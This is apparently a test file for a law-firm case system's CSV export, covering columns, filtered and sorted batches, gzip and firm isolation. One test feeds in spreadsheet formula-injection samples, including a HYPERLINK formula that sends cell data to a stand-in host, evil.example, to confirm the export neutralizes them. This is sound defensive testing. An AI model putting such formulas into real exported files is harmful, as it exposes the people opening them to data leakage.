import crypto from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { columnsOf, CSV_COLUMNS } from '../../src/cases/import';
import { addDays, todayIn } from '../../src/shared/dates';
import { pages } from '../../src/shared/paths';
import { BACKENDS, secondFirm, signIn, type SignedIn, startTestApp, type TestApp } from '../helpers/app';

const HEADER = Object.values(CSV_COLUMNS);
type Row = Record<string, string>;

/** The CSV as rows by column name, the header checked first. */
function rowsOf(text: string): Row[] {
  const [header, ...rows] = parse(text, { bom: true }) as string[][];
  expect(header).toEqual(HEADER);
  return rows.map((cells) => Object.fromEntries(header.map((name, i) => [name, cells[i]])));
}

/** A word no other test of this file uses, to find its own cases with the search box. */
const tag = () => `exp${crypto.randomBytes(4).toString('hex')}`;

describe.each(BACKENDS)('Export Data on %s', (backend) => {
  let t: TestApp;
  let admin: SignedIn;
  let attorney: SignedIn;
  beforeAll(async () => {
    t = await startTestApp({ backend });
    admin = await signIn(t.app, 'admin');
    attorney = await signIn(t.app, 'attorney');
  });
  afterAll(() => t?.close());

  const exportOf = (as: SignedIn, query: string) => as.agent.get(`/api/cases/export?${query}`);
  const createCase = async (as: SignedIn, body: object) => {
    const res = await as.agent.post('/api/cases').set('X-CSRF-Token', as.token).send(body);
    expect(res.status).toBe(201);
    return res.body as { caseNumber: string };
  };
  const importCsv = async (as: SignedIn, text: string) => {
    const res = await as.agent
      .post('/api/cases/import')
      .set('X-CSRF-Token', as.token)
      .field('mode', 'all-or-nothing')
      .attach('file', Buffer.from(text), 'cases.csv');
    expect(res.body.rejected).toEqual([]);
    return res.body as { imported: number };
  };
  /** Every page of the list's answer to the same query: the case numbers in its order. */
  async function listed(as: SignedIn, query: string): Promise<string[]> {
    const numbers: string[] = [];
    for (let page = 1; ; page++) {
      const res = await as.agent.get(`/api/cases?${query}&pageSize=200&page=${page}`);
      expect(res.status).toBe(200);
      numbers.push(...res.body.items.map((c: { caseNumber: string }) => c.caseNumber));
      if (numbers.length >= res.body.total) return numbers;
    }
  }

  it('answers a CSV attachment named for the day, with the columns Import Cases reads', async () => {
    const word = tag();
    const made = await createCase(attorney, {
      clientName: `Ana ${word}`,
      caseType: 'visa',
      formType: 'I-130',
      assigneeId: (
        await t.database.db
          .selectFrom('users')
          .select('id')
          .where('login_id', '=', 'attorney')
          .executeTakeFirstOrThrow()
      ).id,
      dueDate: '2026-12-01',
      description: `Spouse petition, "early" ${word}`,
      receiptNumber: `IOE${String(Date.now()).slice(-10)}`,
      priorityDate: '2024-03-01',
      legalFee: 1250.5,
      amountPaid: 100,
    });
    const res = await exportOf(attorney, `q=${word}`);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    // The firm's today (its time zone's), within a day of UTC's.
    const today = /^attachment; filename="cases-(\d{4}-\d{2}-\d{2})\.csv"$/.exec(
      res.headers['content-disposition'],
    )?.[1];
    const utc = todayIn('UTC');
    expect([addDays(utc, -1), utc, addDays(utc, 1)]).toContain(today);
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.text.startsWith('\uFEFF')).toBe(true);
    // Import reads the export's header as it is.
    expect(() => columnsOf(HEADER)).not.toThrow();
    expect(rowsOf(res.text)).toEqual([
      {
        'Case Number': made.caseNumber,
        'Client Name': `Ana ${word}`,
        'Case Type': 'visa',
        'Form Type': 'I-130',
        Status: 'pending',
        'Assigned To': 'Jordan Rivera',
        'Due Date': '2026-12-01',
        Description: `Spouse petition, "early" ${word}`,
        'Receipt Number': expect.stringMatching(/^IOE\d{10}$/),
        'Priority Date': '2024-03-01',
        'Legal Fee': '1250.50',
        'Amount Paid': '100.00',
        Created: today,
      },
    ]);
  });

  it('neutralizes cells a spreadsheet would run as formulas', async () => {
    const word = tag();
    await createCase(attorney, {
      clientName: `+cmd ${word}`,
      caseType: 'asylum',
      formType: 'I-589',
      description: `=HYPERLINK("http://evil.example/?x="&A1,"Click") ${word}`,
    });
    await createCase(attorney, {
      clientName: `@SUM ${word}`,
      caseType: 'asylum',
      formType: 'I-589',
      description: `-2+3 ${word}`,
    });
    const res = await exportOf(attorney, `q=${word}&sort=client`);
    const rows = rowsOf(res.text);
    expect(rows.map((r) => [r['Client Name'], r.Description])).toEqual([
      [`'+cmd ${word}`, `'=HYPERLINK("http://evil.example/?x="&A1,"Click") ${word}`],
      [`'@SUM ${word}`, `'-2+3 ${word}`],
    ]);
    // Read back by Import Cases (updating the cases by their numbers), the cells are what was typed: no
    // case changes.
    const again = await admin.agent
      .post('/api/cases/import')
      .set('X-CSRF-Token', admin.token)
      .field('mode', 'update')
      .attach('file', Buffer.from(res.text), 'cases.csv');
    expect(again.body).toEqual({ imported: 0, updated: 0, rejected: [] });
    const reread = rowsOf((await exportOf(attorney, `q=${word}&sort=client`)).text);
    expect(reread.map((r) => [r['Client Name'], r.Description])).toEqual([
      [`'+cmd ${word}`, `'=HYPERLINK("http://evil.example/?x="&A1,"Click") ${word}`],
      [`'@SUM ${word}`, `'-2+3 ${word}`],
    ]);
  });

  describe('in batches, with the list’s filters and order', () => {
    const word = tag();
    const COUNT = 2300;
    beforeAll(async () => {
      // Many rows share a due date and many have none, so batches end inside runs of equal keys.
      const rows = Array.from({ length: COUNT }, (_, i) => {
        const due = i % 3 === 0 ? '' : `2027-0${(i % 4) + 1}-15`;
        const type = ['visa', 'family', 'asylum', 'citizenship'][i % 4];
        const status = ['pending', 'processing', 'on-hold'][i % 3];
        return `Client ${String(i % 700).padStart(3, '0')} ${word},${type},I-130,${status},${due},case ${i} ${word}`;
      });
      const { imported } = await importCsv(
        admin,
        ['Client Name,Case Type,Form Type,Status,Due Date,Description', ...rows].join('\n'),
      );
      expect(imported).toBe(COUNT);
    }, 120_000);

    it.each([
      ['the default order', ''],
      ['due date, undated last', '&sort=dueDate'],
      ['due date descending', '&sort=-dueDate'],
      ['client', '&sort=client'],
      ['case number', '&sort=caseNumber'],
      ['a status and type filter', '&status=processing&type=family&sort=-dueDate'],
      ['a due-date range', '&dueAfter=2027-02-01&dueBefore=2027-03-31&sort=status'],
    ])(
      'exports exactly the list, in its order: %s',
      async (_name, filters) => {
        const query = `q=${word}${filters}`;
        const expected = await listed(admin, query);
        const res = await exportOf(admin, query);
        expect(res.status).toBe(200);
        const exported = rowsOf(res.text).map((r) => r['Case Number']);
        expect(exported).toHaveLength(expected.length);
        expect(exported).toEqual(expected);
      },
      60_000,
    );

    it('is the same file from the case pages of both areas, gzipped when asked', async () => {
      const query = `q=${word}&type=visa&sort=caseNumber`;
      const api = await exportOf(admin, query);
      for (const [as, area] of [
        [admin, 'admin'],
        [attorney, 'user'],
      ] as const) {
        const page = await as.agent
          .get(`${pages.cases(area).export}?${query}`)
          .set('Accept-Encoding', 'gzip');
        expect(page.status).toBe(200);
        expect(page.headers['content-encoding']).toBe('gzip');
        expect(page.text).toBe(api.text);
      }
    });
  });

  it('refuses a filter the list refuses, before any CSV is sent', async () => {
    const res = await exportOf(admin, 'sort=shoeSize');
    expect(res.status).toBe(422);
    expect(res.body.error).toMatch(/^sort must be one of /);
  });

  it("holds the firm's own cases only, and nothing for platform staff", async () => {
    const word = tag();
    await createCase(admin, { clientName: `Ours ${word}`, caseType: 'visa', formType: 'I-130' });
    const other = await secondFirm(t);
    const theirs = await signIn(t.app, other.user);
    const res = await exportOf(theirs, `q=${word}`);
    expect(res.status).toBe(200);
    expect(rowsOf(res.text)).toEqual([]);
    const staff = await signIn(t.app, 'reti');
    expect((await exportOf(staff, `q=${word}`)).status).toBe(403);
    expect((await staff.agent.get(`${pages.cases('user').export}?q=${word}`)).status).toBe(403);
  });
});
